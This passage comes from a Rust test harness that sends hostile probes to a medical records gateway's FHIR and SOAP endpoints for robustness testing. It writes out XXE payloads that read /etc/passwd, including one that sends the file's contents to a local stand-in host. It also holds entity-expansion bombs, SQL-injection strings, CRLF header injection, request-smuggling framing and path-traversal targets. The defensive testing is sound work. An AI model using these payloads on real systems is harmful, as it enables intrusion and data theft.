                r#"<!DOCTYPE e [<!ENTITY xxe SYSTEM "http://127.0.0.1:9/evil">]>"#,
                "<a>&xxe;</a>",
            ),
        ),
        p(
            "xxe",
            with_dtd(
                r#"<!DOCTYPE e [<!ENTITY % p SYSTEM "http://127.0.0.1:9/evil.dtd"> %p;]>"#,
                "",
            ),
        ),
        p(
            "xxe",
            with_dtd(
                r#"<!DOCTYPE e [<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % w "<!ENTITY &#x25; s SYSTEM 'http://127.0.0.1:9/?%f;'>"> %w; %s;]>"#,
                "",
            ),
        ),
        p(
            "xxe",
            with_dtd(r#"<!DOCTYPE e SYSTEM "file:///etc/passwd">"#, ""),
        ),
        p(
            "xxe",
            with_dtd(
                r#"<!DOCTYPE e PUBLIC "-//EVIL//DTD//EN" "http://127.0.0.1:9/x.dtd">"#,
                "",
            ),
        ),
        p("xxe", format!("{decl}{}", env("&xxe;"))),
        p("xxe", route.envelope(r#" a="&xxe;""#, "")),
        p(
            "xxe",
            env(
                r#"<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>"#,
            ),
        ),
        p(
            "xxe",
            format!(
                r#"{decl}<?xml-stylesheet type="text/xsl" href="http://127.0.0.1:9/x.xsl"?>{}"#,
                env("")
            ),
        ),
        p("entity-expansion", with_dtd(&laughs, "&lol9;")),
        p(
            "entity-expansion",
            with_dtd(
                &format!("<!DOCTYPE q [<!ENTITY a \"{}\">]>", "a".repeat(50_000)),
                &"&a;".repeat(20_000),
            ),
        ),
        p(
            "entity-expansion",
            route.envelope(&format!(r#" q="{}""#, "&a;".repeat(20_000)), ""),
        ),
        p("doctype", format!("{}<!DOCTYPE late>", env(""))),
        p("doctype", env("<!DOCTYPE inside>")),
        p("doctype", format!("\u{feff}<!doctype e>{}", env(""))),
        p(
            "doctype",
            env("<![CDATA[<!DOCTYPE e [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>]]>"),
        ),
        p("doctype", env("<!-- <!DOCTYPE e> -->")),
        p(
            "deep-nesting",
            env(&format!(
                "{}{}",
                "<a>".repeat(10_000),
                "</a>".repeat(10_000)
            )),
        ),
        route.made("deep-nesting", 700_000, |r| {
            r.envelope(
                "",
                &format!("{}{}", "<a>".repeat(100_000), "</a>".repeat(100_000)),
            )
        }),
        p("deep-nesting", env(&"<a>".repeat(100_000))),
        p(
            "deep-nesting",
            env(&format!(
                "{}{}",
                "<a:b xmlns:a=\"urn:x\">".repeat(10_000),
                "</a:b>".repeat(10_000)
            )),
        ),
        p("many-elements", env(&"<x/>".repeat(30_000))),
        route.made("many-elements", 2_200_000, |r| {
            r.envelope("", &"<x a=\"1\" b=\"2\">t</x>".repeat(100_000))
        }),
        route.made("many-elements", 1_400_000, |r| {
            r.envelope("", &"<!---->".repeat(200_000))
        }),
        route.made("many-elements", 800_000, |r| {
            r.envelope("", &"<?pi x?>".repeat(100_000))
        }),
        {
            let huge = big.xml_huge.clone();
            route.made("huge-attribute", huge.len(), move |r| {
                r.envelope(&format!(r#" a="{huge}""#), "")
            })
        },
        p(
            "huge-attribute",
            route.envelope(
                &(0..1_000)
                    .map(|i| format!(" a{i}=\"{i}\""))
                    .collect::<String>(),
                "",
            ),
        ),
        route.made("huge-attribute", 1_000_000, |r| {
            let decls: String = (0..50_000)
                .map(|i| format!(" xmlns:p{i}=\"urn:{i}\""))
                .collect();
            r.envelope(&decls, &"<x/>".repeat(19_000))
        }),
        p("huge-attribute", route.envelope(" a=\"1\" a=\"2\"", "")),
        {
            let huge = big.xml_huge.clone();
            route.made("huge-values", huge.len(), move |r| r.envelope("", &huge))
        },
        {
            let huge = big.xml_huge.clone();
            route.made("huge-values", huge.len(), move |r| {
                r.envelope("", &format!("<![CDATA[{huge}]]>"))
            })
        },
        // An operation name no index row can hold, in characters that do not compress.
        p(
            "huge-values",
            format!(
                "<s:Envelope xmlns:s=\"{}\"><s:Body><E{} xmlns=\"{}\"/></s:Body></s:Envelope>",
                route.envelope_ns(),
                (0..1_000)
                    .map(|_| uuid::Uuid::new_v4().simple().to_string())
                    .collect::<String>(),
                route.ns
            ),
        ),
        p("bad-references", env("&#0;")),
        p("bad-references", env("&#xD800;")),
        p("bad-references", env("&#99999999999;")),
        p("bad-references", env("&#x;")),
        p("bad-references", env("&amp")),
        p("bad-references", env("&;")),
        p("bad-references", route.envelope(" a=\"&#0;\"", "")),
        p("truncated", String::new()),
        p("truncated", "<".into()),
        p("truncated", decl.into()),
        p("truncated", env("x")[..40].to_string()),
        p("truncated", env("<LocalUid>1</LocalUid>")[..90].to_string()),
        p("truncated", route.envelope(" a=\"", "")),
        p("not-xml", r#"{"resourceType":"Parameters"}"#.into()),
        p("not-xml", "\u{0}\u{1}\u{2}".into()),
        p(
            "soap-version",
            r#"<s:Envelope xmlns:s="urn:nothing"><s:Body/></s:Envelope>"#.into(),
        ),
        p(
            "soap-version",
            "<Envelope><Body><x/></Body></Envelope>".into(),
        ),
        p(
            "soap-version",
            format!(
                r#"<s:Envelope xmlns:s="{SOAP11}" xmlns:t="{SOAP12}"><t:Body><x/></t:Body></s:Envelope>"#
            ),
        ),
        p(
            "soap-version",
            format!(
                r#"<s:Envelope xmlns:s="{}"><s:Body><x/></s:Body><s:Header/></s:Envelope>"#,
                route.envelope_ns()
            ),
        ),
        p(
            "soap-version",
            format!(
                r#"<s:Envelope xmlns:s="{}"><s:Body><x/></s:Body><s:Body><x/></s:Body></s:Envelope>"#,
                route.envelope_ns()
            ),
        ),
        p(
            "soap-version",
            format!(
                r#"<s:Envelope xmlns:s="{}"><s:Body><a/><b/></s:Body></s:Envelope>"#,
                route.envelope_ns()
            ),
        ),
        p(
            "soap-version",
            format!(
                r#"<s:Envelope xmlns:s="{}"><s:Body/></s:Envelope>"#,
                route.envelope_ns()
            ),
        ),
        p(
            "soap-version",
            format!(
                r#"<s:Envelope xmlns:s="{}"><s:Header><h s:mustUnderstand="1" xmlns="urn:x"/></s:Header><s:Body><{} xmlns="urn:wrong"/></s:Body></s:Envelope>"#,
                route.envelope_ns(),
                route.op
            ),
        ),
        p(
            "soap-version",
            format!(
                "<x:Envelope xmlns:x=\"{}\"><y:Body/></x:Envelope>",
                route.envelope_ns()
            ),
        ),
    ];
    // Declared encodings that lie, and encodings that are not UTF-8.
    let utf8_body = env("<LocalUid>\u{44f}\u{436}</LocalUid>");
    for d in [
        "ISO-8859-1",
        "UTF-16",
        "EBCDIC-CP-US",
        "utf-8\u{0}",
        "x-unknown",
    ] {
        out.push(p(
            "lying-encoding",
            format!(r#"<?xml version="1.0" encoding="{d}"?>{utf8_body}"#),
        ));
    }
    let mut latin1 = format!(
        r#"<?xml version="1.0" encoding="UTF-8"?>{}"#,
        env("<LocalUid>X</LocalUid>")
    )
    .into_bytes();
    let at = latin1.iter().rposition(|b| *b == b'X').unwrap_or(0);
    latin1[at] = 0xe9;
    out.push(route.probe("lying-encoding", latin1));
    let mut invalid = env("<LocalUid>XY</LocalUid>").into_bytes();
    let at = invalid.iter().position(|b| *b == b'X').unwrap_or(0);
    invalid.splice(at..at + 2, [0xff, 0xfe]);
    out.push(route.probe("invalid-utf8", invalid.clone()));
    invalid.extend([0xc0, 0xaf, 0xed, 0xa0, 0x80, 0xe2]);
    out.push(route.probe("invalid-utf8", invalid));
    for (le, bom, decl16) in [
        (true, true, false),
        (false, true, false),
        (true, false, false),
        (true, true, true),
    ] {
        let text = if decl16 {
            format!(r#"<?xml version="1.0" encoding="UTF-16"?>{}"#, env(""))
        } else {
            env("")
        };
        let mut b: Vec<u8> = match (bom, le) {
            (false, _) => Vec::new(),
            (true, true) => vec![0xff, 0xfe],
            (true, false) => vec![0xfe, 0xff],
        };
        for u in text.encode_utf16() {
            b.extend(if le { u.to_le_bytes() } else { u.to_be_bytes() });
        }
        out.push(route.probe("utf16", b));
    }
    out.push(
        Probe::http("lying-encoding", Method::POST, route.path)
            .body(Some("text/xml; charset=utf-16"), env(""))
            .header("soapaction", format!("\"{}\"", route.action)),
    );
    // SOAPAction naming an unknown operation, another one, or none; versions mixed up.
    let action = |a: &str, body: String| {
        Probe::http("soap-action", Method::POST, route.path)
            .body(Some(route.content_type()), body)
            .header("soapaction", a.to_string())
    };
    let unknown = format!(
        r#"<s:Envelope xmlns:s="{}"><s:Body><DropTables xmlns="{}"/></s:Body></s:Envelope>"#,
        route.envelope_ns(),
        route.ns
    );
    out.extend([
        action(
            "\"http://tempuri.org/IHubService/DropTables\"",
            unknown.clone(),
        ),
        action("\"urn:medgate:documents:v1/SubmitDocument\"", env("")),
        action("\"\"", env("")),
        action(&format!("\"{}\"", "A".repeat(8_000)), env("")),
        action("' OR 1=1--", unknown.clone()),
        Probe::http("soap-action", Method::POST, route.path)
            .body(Some(route.content_type()), env("")),
        Probe::http("soap-action", Method::POST, route.path).body(
            Some("application/soap+xml; charset=utf-8; action=\"urn:nothing/DropTables\""),
            unknown.clone(),
        ),
    ]);
    let other_ns = if route.v12 { SOAP11 } else { SOAP12 };
    let other_ct = if route.v12 {
        "text/xml; charset=utf-8"
    } else {
        "application/soap+xml; charset=utf-8"
    };
    let swapped = env("").replace(route.envelope_ns(), other_ns);
    out.extend([
        Probe::http("soap-version", Method::POST, route.path)
            .body(Some(other_ct), env(""))
            .header("soapaction", format!("\"{}\"", route.action)),
        Probe::http("soap-version", Method::POST, route.path)
            .body(Some(route.content_type()), swapped.clone())
            .header("soapaction", format!("\"{}\"", route.action)),
        Probe::http("soap-version", Method::POST, route.path)
            .body(Some(other_ct), swapped)
            .header("soapaction", format!("\"{}\"", route.action)),
    ]);
    for ct in [
        None,
        Some("application/json"),
        Some("text/plain"),
        Some("multipart/form-data; boundary=x"),
        Some("application/x-www-form-urlencoded"),
    ] {
        out.push(
            Probe::http("wrong-content-type", Method::POST, route.path)
                .body(ct, env(""))
                .header("soapaction", format!("\"{}\"", route.action)),
        );
    }
    out
}

/// A SOAP operation: its route, name, fixed content and elements with valid values.
type SoapOp = (
    &'static SoapRoute,
    &'static str,
    &'static str,
    Vec<(&'static str, String)>,
);

/// Hostile values in each element of each hub operation, and of the document service's.
fn soap_fields(doctor: &str, r: &Records) -> Vec<Probe> {
    let hub = &SOAP_ROUTES[0];
    let docs = &SOAP_ROUTES[1];
    let callback = &SOAP_ROUTES[2];
    let provider = &SOAP_ROUTES[3];
    let appeals = &SOAP_ROUTES[4];
    let pol = policy(91);
    let ops: Vec<SoapOp> = vec![
        (
            hub,
            "CheckPatient",
            "",
            vec![
                ("Polis", pol.clone()),
                ("Birthday", "1980-05-17".into()),
                ("Snils", "".into()),
            ],
        ),
        (hub, "GetLPUList", "", vec![("IdDistrict", "1".into())]),
        (
            hub,
            "GetSpesialityList",
            "",
            vec![("IdLPU", ORG.into()), ("Channel", "internet".into())],
        ),
        (
            hub,
            "GetDoctorList",
            "",
            vec![("IdLPU", ORG.into()), ("IdSpesiality", "27".into())],
        ),
        (
            hub,
            "GetAvailableDates",
            "",
            vec![
                ("IdLPU", ORG.into()),
                ("IdDoc", doctor.into()),
                ("VisitStart", "2030-01-01".into()),
                ("VisitEnd", "2030-02-01".into()),
            ],
        ),
        (
            hub,
            "GetAvaibleAppointments",
            "",
            vec![
                ("IdLPU", ORG.into()),
                ("IdDoc", doctor.into()),
                ("VisitStart", "2030-01-01T00:00:00".into()),
                ("VisitEnd", "2030-01-02".into()),
            ],
        ),
        (
            hub,
            "SetAppointment",
            "",
            vec![
                ("IdLPU", ORG.into()),
                ("IdAppointment", r.slots[6].clone()),
                ("Polis", pol.clone()),
                ("Birthday", "1980-05-17".into()),
                ("IdempotencyKey", "k".into()),
            ],
        ),
        (
            hub,
            "CreateClaimForRefusal",
            "",
            vec![
                ("IdClaim", r.hold_to_refuse.clone()),
                ("Reason", "x".into()),
            ],
        ),
        (
            hub,
            "GetPatientHistory",
            "",
            vec![("Polis", pol.clone()), ("Birthday", "1980-05-17".into())],
        ),
        (
            docs,
            "GetDocumentStatus",
            "",
            vec![("LocalUid", r.document.clone())],
        ),
        (
            docs,
            "SubmitDocument",
            "<Kind code=\"4\" version=\"5.12\"/>",
            vec![
                ("LocalUid", uuid::Uuid::new_v4().to_string()),
                ("Organization", ORG.into()),
                ("PatientSnils", "112-233-445 95".into()),
                ("AuthorSnils", AUTHOR.into()),
                (
                    "Document",
                    base64::engine::general_purpose::STANDARD.encode(cda(901)),
                ),
            ],
        ),
        (
            callback,
            "registerDocumentResult",
            "",
            vec![
                (
                    "relatesToMessage",
                    format!("urn:uuid:{}", uuid::Uuid::new_v4()),
                ),
                ("status", "success".into()),
            ],
        ),
        (
            provider,
            "getDocumentFileRequest",
            "",
            vec![("localUid", r.document.clone())],
        ),
        (
            appeals,
            "SubmitComplaint",
            "",
            vec![
                ("ComplaintId", "hostile-soap".into()),
                ("Kind", "refusal".into()),
                ("District", "North".into()),
                ("OrgOid", ORG.into()),
                ("Topic", "booking".into()),
                ("Text", "hostile".into()),
                ("Contact", "hostile@example.test".into()),
                ("Snils", "112-233-445 95".into()),
                ("Policy", pol.clone()),
                ("Received", "2026-01-10T10:00:00+03:00".into()),
            ],
        ),
        (
            appeals,
            "AnswerComplaint",
            "",
            vec![("AppealId", r.appeal.clone()), ("Text", "hostile".into())],
        ),
    ];
    let long = "9".repeat(100_000);
    // NUL is not a character of XML: sent raw all the same.
    let mut values: Vec<String> = INJECTIONS.iter().map(|v| xml_escape(v)).collect();
    values.extend(DATES.iter().map(|d| d.to_string()));
    values.extend(NUMBERS.iter().map(|n| n.to_string()));
    values.extend([
        "&#0;".to_string(),
        long,
        "<b>nested</b>".into(),
        "<![CDATA[<]]>".into(),
    ]);
    let mut out = Vec::new();
    for (route, op, fixed, fields) in &ops {
        let action = if route.path == "/soap/hub" {
            format!("http://tempuri.org/IHubService/{op}")
        } else if route.path == "/soap/documents" {
            format!("urn:medgate:documents:v1/{op}")
        } else if route.path == "/soap/appeals" {
            format!("urn:medgate:appeals:v1/{op}")
        } else {
            route.action.to_string()
        };
        for i in 0..fields.len() {
            for v in &values {
                let inner: String = fields
                    .iter()
                    .enumerate()
                    .map(|(j, (name, val))| {
                        let val = if i == j { v.as_str() } else { val.as_str() };
                        format!("<{name}>{val}</{name}>")
                    })
                    .collect();
                let body = format!(
                    r#"<s:Envelope xmlns:s="{}"><s:Body><{op} xmlns="{}">{fixed}{inner}</{op}></s:Body></s:Envelope>"#,
                    route.envelope_ns(),
                    route.ns
                );
                out.push(
                    Probe::http("soap-fields", Method::POST, route.path)
                        .body(Some(route.content_type()), body)
                        .header("soapaction", format!("\"{action}\"")),
                );
            }
        }
    }
    // A document whose own XML carries a NUL and a DOCTYPE.
    let b64 = base64::engine::general_purpose::STANDARD;
    let doc = cda(903);
    let nul_doc = doc.replacen("</title>", "\0</title>", 1);
    let dtd_doc = doc.replacen(
        "?>",
        "?><!DOCTYPE d [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
        1,
    );
    for d in [nul_doc, dtd_doc] {
        let v = document_reference(&uuid::Uuid::new_v4().to_string(), &d, &[]);
        out.push(
            Probe::http("soap-fields", Method::POST, "/fhir/DocumentReference")
                .body(Some(FHIR_JSON), v.to_string()),
        );
        let body = format!(
            r#"<s:Envelope xmlns:s="{SOAP11}"><s:Body><SubmitDocument xmlns="urn:medgate:documents:v1"><LocalUid>{}</LocalUid><Kind code="4" version="5.12"/><Organization>{ORG}</Organization><PatientSnils>112-233-445 95</PatientSnils><AuthorSnils>{AUTHOR}</AuthorSnils><Document>{}</Document></SubmitDocument></s:Body></s:Envelope>"#,
            uuid::Uuid::new_v4(),
            b64.encode(&d)
        );
        out.push(
            Probe::http("soap-fields", Method::POST, docs.path)
                .body(Some(docs.content_type()), body)
                .header("soapaction", "\"urn:medgate:documents:v1/SubmitDocument\""),
        );
    }
    // The document's kind, as attributes.
    for v in ["' OR 1=1--", "", "&#0;", "1e400", &"7".repeat(10_000)] {
        let body = format!(
            r#"<s:Envelope xmlns:s="{SOAP11}"><s:Body><SubmitDocument xmlns="urn:medgate:documents:v1"><LocalUid>{}</LocalUid><Kind code="{v}" version="{v}"/><Organization>{ORG}</Organization><PatientSnils>112-233-445 95</PatientSnils><AuthorSnils>{AUTHOR}</AuthorSnils><Document>{}</Document></SubmitDocument></s:Body></s:Envelope>"#,
            uuid::Uuid::new_v4(),
            base64::engine::general_purpose::STANDARD.encode(cda(902))
        );
        out.push(
            Probe::http("soap-fields", Method::POST, docs.path)
                .body(Some(docs.content_type()), body)
                .header("soapaction", "\"urn:medgate:documents:v1/SubmitDocument\""),
        );
    }
    out
}

/// HTTP framing written by hand: CRLF in header values, oversized heads, Content-Length
/// that lies, broken chunked bodies, odd request lines, traversal in the raw path.
fn framing(method: &Method, pattern: &str, r: &Records) -> Vec<Probe> {
    let path = concrete(pattern, r);
    let m = method.as_str();
    let auth = bearer();
    let ct = ("Content-Type", FHIR_JSON.to_string());
    let body = json_base(m, pattern, r)
        .map(|b| b.to_string())
        .unwrap_or_else(|| "{}".into());
    let raw = |class: &'static str, bytes: Vec<u8>| Probe::raw(class, path.clone(), bytes);
    let mut out = vec![
        raw(
            "crlf-header",
            raw_request(
                m,
                &path,
                &[auth.clone(), ("X-Request-Id", "a\rInjected: 1".into())],
                b"",
            ),
        ),
        raw(
            "crlf-header",
            raw_request(
                m,
                &path,
                &[auth.clone(), ("X-Request-Id", "a\nInjected: 1".into())],
                b"",
            ),
        ),
        raw(
            "crlf-header",
            raw_request(
                m,
                &path,
                &[
                    auth.clone(),
                    ("X-Correlation-Id", "a\r\n Injected: 1".into()),
                ],
                b"",
            ),
        ),
        raw(
            "crlf-header",
            raw_request(
                m,
                &path,
                &[auth.clone(), ("X-Request-Id", "a\0b".into())],
                b"",
            ),
        ),
        raw(
            "crlf-header",
            raw_request(m, &path, &[auth.clone(), ("Bad Header", "x".into())], b""),
        ),
        raw(
            "crlf-header",
            raw_request(
                m,
                &path,
                &[(auth.0, format!("{}\r\nX-Injected: 1", auth.1))],
                b"",
            ),
        )
        .well_formed(),
        raw(
            "oversized-header",
            raw_request(
                m,
                &path,
                &[auth.clone(), ("X-Big", "b".repeat(140_000))],
                b"",
            ),
        ),
        raw(
            "oversized-header",
            raw_request(
                m,
                &path,
                &(0..120)
                    .map(|i| ("X-Many", i.to_string()))
                    .collect::<Vec<_>>(),
                b"",
            ),
        ),
        raw(
            "oversized-header",
            raw_request(
                m,
                &format!("{path}?q={}", "q".repeat(140_000)),
                std::slice::from_ref(&auth),
                b"",
            ),
        ),
    ];
    if matches!(m, "POST" | "PUT") {
        let cl = |n: usize| ("Content-Length", n.to_string());
        out.extend([
            raw(
                "content-length",
                raw_request(
                    m,
                    &path,
                    &[auth.clone(), ct.clone(), cl(body.len() + 100)],
                    body.as_bytes(),
                ),
            )
            .half_closed(),
            raw(
                "content-length",
                raw_request(
                    m,
                    &path,
                    &[auth.clone(), ct.clone(), cl(body.len() / 2)],
                    body.as_bytes(),
                ),
            ),
            // A body that never arrives in full, on a connection kept open: 408, not a hang.
            raw(
                "content-length",
                raw_request(
                    m,
                    &path,
                    &[auth.clone(), ct.clone(), cl(body.len() + 100)],
                    body.as_bytes(),
                ),
            )
            .well_formed()
            .expect(408),
            raw(
                "content-length",
                raw_request(
                    m,
                    &path,
                    &[auth.clone(), ct.clone(), cl(body.len()), cl(body.len() + 1)],
                    body.as_bytes(),
                ),
            ),
            raw(
                "content-length",
                raw_request(
                    m,
                    &path,
                    &[auth.clone(), ct.clone(), ("Content-Length", "-1".into())],
                    body.as_bytes(),
                ),
            ),
            raw(
                "content-length",
                raw_request(
                    m,
                    &path,
                    &[auth.clone(), ct.clone(), ("Content-Length", "1e3".into())],
                    body.as_bytes(),
                ),
            ),
            raw(
                "content-length",
                raw_request(
                    m,
                    &path,
                    &[
                        auth.clone(),
                        ct.clone(),
                        ("Content-Length", "99999999999999999999999".into()),
                    ],
                    body.as_bytes(),
                ),
            ),
            raw(
                "content-length",
                raw_request(
                    m,
                    &path,
                    &[auth.clone(), ct.clone(), cl(50 << 20)],
                    body.as_bytes(),
                ),
            ),
            raw(
                "content-length",
                raw_request(
                    m,
                    &path,
                    &[
                        auth.clone(),
                        ct.clone(),
                        cl(body.len()),
                        ("Transfer-Encoding", "chunked".into()),
                    ],
                    body.as_bytes(),
                ),
            ),
        ]);
        let chunked = |chunks: &str| {
            let mut b = raw_request(
                m,
                &path,
                &[
                    auth.clone(),
                    ct.clone(),
                    ("Transfer-Encoding", "chunked".into()),
                ],
                b"",
            );
            b.extend_from_slice(chunks.as_bytes());
            b
        };
        let n = body.len();
        out.extend([
            raw("chunked", chunked(&format!("zz\r\n{body}\r\n0\r\n\r\n"))),
            raw(
                "chunked",
                chunked(&format!("ffffffffffffffffffff\r\n{body}\r\n0\r\n\r\n")),
            ),
            raw("chunked", chunked(&format!("-1\r\n{body}\r\n0\r\n\r\n"))),
            raw("chunked", chunked(&format!("{:x}\r\n{body}\r\n", n))).half_closed(),
            raw("chunked", chunked(&format!("{:x}\r\n{body}", n + 50))).half_closed(),
            raw(
                "chunked",
                chunked(&format!("{:x};ext=\"\r\n{body}\r\n0\r\n\r\n", n)),
            ),
            raw("chunked", chunked(&format!("{:x}\r\n{body}XX0\r\n\r\n", n))),
            raw(
                "chunked",
                chunked(&format!("{:x} \r\n{body}\r\n0\r\n\r\n", n)),
            ),
            raw(
                "chunked",
                chunked(&format!("{:x}\r\n{body}\r\n0\r\n\r\n", n)),
            )
            .well_formed(),
            raw("chunked", {
                let mut b = raw_request(
                    m,
                    &path,
                    &[
                        auth.clone(),
                        ct.clone(),
                        ("Transfer-Encoding", "gzip, chunked".into()),
                    ],
                    b"",
                );
                b.extend_from_slice(format!("{:x}\r\n{body}\r\n0\r\n\r\n", n).as_bytes());
                b
            }),
        ]);
    }
    out
}

/// Traversal and odd request lines in the raw path, and paths the gateway does not serve.
fn raw_paths() -> Vec<Probe> {
    let auth = bearer();
    let get = |target: &str| {
        Probe::raw(
            "path-traversal",
            target,
            raw_request("GET", target, std::slice::from_ref(&auth), b""),
        )
        .well_formed()
    };
    let mut out: Vec<Probe> = [
        "/fhir/../api/admin/transactions",
        "/fhir/%2e%2e/api/admin/transactions",
        "/fhir/%2e%2e%2fapi%2fadmin%2ftransactions",
        "/fhir/Appointment/..%2f..%2fapi%2fadmin%2ftransactions",
        "/fhir/Organization/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "/fhir/Organization/..%5c..%5cwindows%5cwin.ini",
        "/soap/../../../../etc/passwd",
        "/api/admin/documents/..%2F..%2F..%2Fetc%2Fpasswd",
        "/api/admin/transactions/%2e%2e",
        "/api/admin/../../fhir/metadata",
        "//etc/passwd",
        "/fhir//Slot",
        "/./fhir/metadata",
        "/fhir/metadata/..",
        "/fhir/metadata%00.json",
        "/fhir/Slot;jsessionid=1",
        "/healthz/../metrics",
        "/fhir/Appointment/%252e%252e%252f",
    ]
    .into_iter()
    .map(get)
    .collect();
    for (target, bytes) in [
        ("/", b"GET / HTTP/1.1\r\n\r\n".to_vec()),
        (
            "/fhir/metadata",
            b"get /fhir/metadata HTTP/1.1\r\nHost: x\r\n\r\n".to_vec(),
        ),
        (
            "/fhir/metadata",
            b"GET /fhir/metadata HTTP/2.0\r\nHost: x\r\n\r\n".to_vec(),
        ),
        (
            "/fhir/metadata",
            b"GET /fhir/metadata HTTP/9.9\r\nHost: x\r\n\r\n".to_vec(),
        ),
        ("/fhir/metadata", b"GET /fhir/metadata\r\n\r\n".to_vec()),
        (
            "/fhir/metadata",
            b"GET  /fhir/metadata  HTTP/1.1\r\nHost: x\r\n\r\n".to_vec(),
        ),
        (
            "/fhir/metadata",
            b"GET /fhir/\x00metadata HTTP/1.1\r\nHost: x\r\n\r\n".to_vec(),
        ),
        (
            "/fhir/metadata",
            b"GET /fhir/\xffmetadata HTTP/1.1\r\nHost: x\r\n\r\n".to_vec(),
        ),
        (
            "/fhir/metadata",
            b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03".to_vec(),
        ),
        ("/fhir/metadata", b"\r\n\r\n\r\n".to_vec()),
        (
            "/fhir/metadata",
            b"GET /fhir/metadata HTTP/1.1\r\nHost: x\r\nHost: y\r\n\r\n".to_vec(),
        ),
        (
            "/fhir/metadata",
            b"GET /fhir/metadata HTTP/1.1\r\n: empty-name\r\n\r\n".to_vec(),
        ),
        (
            "/fhir/metadata",
            b"GET /fhir/metadata HTTP/1.1\nHost: x\n\n".to_vec(),
        ),
    ] {
        out.push(Probe::raw("request-line", target, bytes));
    }
    for (target, bytes) in [
        (
            "/fhir/metadata",
            raw_request("GET", "http://evil.example/fhir/metadata", &[], b""),
        ),
        ("*", raw_request("OPTIONS", "*", &[], b"")),
        (
            "/fhir/metadata",
            b"GET /fhir/metadata HTTP/1.0\r\n\r\n".to_vec(),
        ),
    ] {
        out.push(Probe::raw("request-line", target, bytes).well_formed());
    }
    // Paths no route serves, with every odd method; CONNECT and a promised body that never
    // comes must be answered without waiting for it.
    for path in [
        "/nowhere",
        "/fhir/Nothing",
        "/soap/nothing",
        "/api/admin/nothing",
        "/fhir",
    ] {
        for m in ["GET", "POST", "CONNECT", "TRACE", "PROPFIND"] {
            out.push(
                Probe::raw(
                    "unknown-method",
                    path,
                    raw_request(m, path, std::slice::from_ref(&auth), b""),
                )
                .well_formed()
                .expect(404),
            );
        }
    }
    let served = |path: &str| if path == "/nowhere" { 404 } else { 405 };
    for path in [
        "/nowhere",
        "/fhir/Slot",
        "/soap/hub",
        "/api/admin/transactions",
        "/healthz",
    ] {
        for m in ["CONNECT", "TRACE", "DELETE"] {
            let mut b = raw_request(
                m,
                path,
                &[auth.clone(), ("Content-Length", "1000000".into())],
                b"",
            );
            // Not `Connection: close`: the server must answer on its own.
            b = String::from_utf8(b)
                .unwrap_or_default()
                .replace("Connection: close\r\n", "")
                .into_bytes();
            out.push(
                Probe::raw("unknown-method", path, b)
                    .well_formed()
                    .expect(served(path)),
            );
        }
        let b = format!(
            "CONNECT {path} HTTP/1.1\r\nHost: gateway\r\n{}: {}\r\n\r\n",
            auth.0, auth.1
        );
        out.push(
            Probe::raw("unknown-method", path, b.into_bytes())
                .well_formed()
                .expect(served(path)),
        );
    }
    out
}

/// Every probe of the corpus.
fn corpus(r: &Records, doctor: &str, big: &Payloads) -> Vec<Probe> {
    let mut out = Vec::new();
    for route in medgate::http::route_table() {
        let pattern = route.pattern();
        // actix and reqwest speak different versions of the `http` crate.
        let method = &Method::from_bytes(route.method.as_str().as_bytes()).expect("method");
        out.extend(injections(method, &pattern, r));
        out.extend(credentials(method, &pattern, r));
        out.extend(headers(method, &pattern, r));
        out.extend(methods(&pattern, r));
        out.extend(json_bodies(method, &pattern, r, big));
        out.extend(framing(method, &pattern, r));
        if let Some(soap) = SOAP_ROUTES
            .iter()
            .find(|s| s.path == pattern && *method == Method::POST)
        {
            out.extend(xml_bodies(soap, big));
        }
        if *method == Method::GET || *method == Method::DELETE {
            // A body where none is read.
            let path = concrete(&pattern, r);
            out.push(
                Probe::http("unexpected-body", method.clone(), path.clone())
                    .body(Some(FHIR_JSON), big.deep_array_100k.clone()),
            );
            out.push(Probe::http("unexpected-body", method.clone(), path).body(
                Some("text/xml"),
                "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><x>&a;</x>",
            ));
        }
    }
    out.extend(soap_fields(doctor, r));
    out.extend(raw_paths());
    out.extend(near_limit());
    out
}

// ---------------------------------------------------------------------------------------
// Sending and judging.

/// An answer as received.
#[derive(Debug)]
struct Answer {
    status: u16,
    headers: Vec<(String, String)>,
    body: Vec<u8>,
}

impl Answer {
    fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(k, _)| k.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
    }

    fn text(&self) -> String {
        let t = String::from_utf8_lossy(&self.body);
        t.chars().take(300).collect()
    }
}

async fn send(http: &reqwest::Client, addr: SocketAddr, p: &Probe) -> Result<Answer, String> {
    match &p.wire {
        Wire::Http {
            method,
            headers,
            body,
            token,
        } => {
            let mut b = http.request(method.clone(), format!("http://{addr}{}", p.target));
            if let Some(t) = token {
                b = b.bearer_auth(t);
            }
            for (k, v) in headers {
                b = b.header(k.as_str(), v.as_str());
            }
            if body.len() > 0 {
                b = b.body(body.bytes());
            }
            let res = b.send().await.map_err(|e| format!("no answer: {e:?}"))?;
            let status = res.status().as_u16();
            let headers = res
                .headers()
                .iter()
                .map(|(k, v)| {
                    (
                        k.to_string(),
                        String::from_utf8_lossy(v.as_bytes()).into_owned(),
                    )
                })
                .collect();
            let body = res
                .bytes()
                .await
                .map_err(|e| format!("body cut: {e:?}"))?
                .to_vec();
            Ok(Answer {
                status,
                headers,
                body,
            })
        }
        Wire::Raw {
            bytes, half_close, ..
        } => {
            let mut s = tokio::net::TcpStream::connect(addr)
                .await
                .map_err(|e| format!("connect: {e}"))?;
            // The server may answer and close before it read everything: what counts is
            // its answer.
            let _ = s.write_all(bytes).await;
            if *half_close {
                let _ = s.shutdown().await;
            }
            read_answer(&mut s).await
        }
    }
}

/// Reads one HTTP/1.1 response: its head, then the body by Content-Length or to the end.
async fn read_answer(s: &mut tokio::net::TcpStream) -> Result<Answer, String> {
    let mut buf = Vec::new();
    let mut chunk = vec![0u8; 64 * 1024];
    loop {
        let n = match s.read(&mut chunk).await {
            Ok(n) => n,
            Err(e) if buf.is_empty() => {
                return Err(format!("connection failed before an answer: {e}"))
            }
            Err(_) => 0,
        };
        if n > 0 {
            buf.extend_from_slice(&chunk[..n]);
        }
        let Some(head_end) = buf.windows(4).position(|w| w == b"\r\n\r\n") else {
            if n == 0 {
                return Err(format!(
